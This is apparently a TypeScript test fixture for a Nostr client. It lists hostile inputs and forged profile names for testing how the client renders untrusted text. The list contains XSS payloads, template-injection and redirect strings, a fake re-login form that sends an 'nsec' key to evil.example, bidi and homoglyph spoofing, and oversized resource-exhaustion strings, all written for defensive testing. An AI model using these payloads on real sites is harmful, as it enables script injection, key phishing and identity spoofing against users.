/** What people who mean harm write, and what they call themselves. */

const RIGHT_TO_LEFT = '\u202e'
const ISOLATE = '\u2067'
const ZERO_WIDTH = '\u200b\u200d\ufeff'
const MARKS = '\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u0335\u0336\u0489'

export const HOSTILE_TEXTS: readonly string[] = [
  '<script>pwned++</script><img src=x onerror=pwned++><svg onload=pwned++>',
  '<svg><script>alert(1)</script></svg><iframe srcdoc="<script>parent.pwned++</script>"></iframe>',
  'javascript:pwned++ JAVASCRIPT:alert(1) java\tscript:alert(1) data:text/html,<script>pwned++</script> vbscript:x',
  'https://example.com/"onmouseover="pwned++ https://example.com/<script>pwned++</script>',
  'https://bank.example@evil.example/ https://user:pass@evil.example/login.png',
  `${RIGHT_TO_LEFT}gpj.elif/elpmaxe.live//:sptth ${ISOLATE}never closed`,
  `https://evil.example/${RIGHT_TO_LEFT}gnp.txt https://еxample.com/picture.png`,
  `z${MARKS.repeat(60)}a${MARKS.repeat(60)}l${MARKS.repeat(60)}g${MARKS.repeat(60)}o`,
  MARKS.repeat(500),
  'W'.repeat(100_000),
  `${'word '.repeat(20_000)}end`,
  `https://evil.example/${'a'.repeat(1_900)}`,
  `https://evil.example/${'a'.repeat(50_000)}.png`,
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(2_500),
  '\u{1f600}'.repeat(10_000),
  '\ufdfd'.repeat(2_000),
  '𒐫𒈙⸻꧅'.repeat(400),
  '\n'.repeat(5_000),
  `${'\n\n\u2028\u2029\v\f\r'.repeat(300)}below`,
  `${'#tag'.repeat(3_000)} ${'#a '.repeat(3_000)}`,
  `${'https://pictures.example/huge.png '.repeat(200)}`,
  'https://pictures.example/huge.svg https://pictures.example/huge.gif?x=.mp4',
  `nostr:npub1${'q'.repeat(58)} nostr:nevent1${'q'.repeat(1_400)} nostr:note1 nostr:nprofile1zzz`,
  `#[0] #[1] #[999] #[-1] ${'#[0]'.repeat(2_000)}`,
  `${'('.repeat(20_000)}https://evil.example/${')'.repeat(20_000)}`,
  `\0\u0001\u0008\u001b[31mred\u001b[0m ${ZERO_WIDTH.repeat(2_000)}`,
  '{{constructor.constructor("pwned++")()}} <%= pwned %>',
  '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="https://evil.example"><input name="nsec"><button>Sign in again</button></form>',
  'مرحبا <b>עברית</b> mixed \u200fwith\u200e marks 123 (456)',
]

/** Each is somebody's whole name in their profile. */
export const FORGED_NAMES: readonly string[] = [
  'Alice',
  `Al${ZERO_WIDTH}ice`,
  `${RIGHT_TO_LEFT}ecilA`,
  '\u2066Alice\u2069\u202c',
  'W'.repeat(10_000),
  `A${MARKS.repeat(300)}lice`,
  '\ufdfd'.repeat(300),
  'Alice npub1f49k9q8w3x…k0wul',
  '\n\n\n\nAlice\n\n\n',
  '\u{1f600}'.repeat(1_000),
  'أليس\u202e',
  '<b>Alice</b><img src=x onerror=pwned++>',
  ' \u3000\u2003\u115f\u3164 ',
]
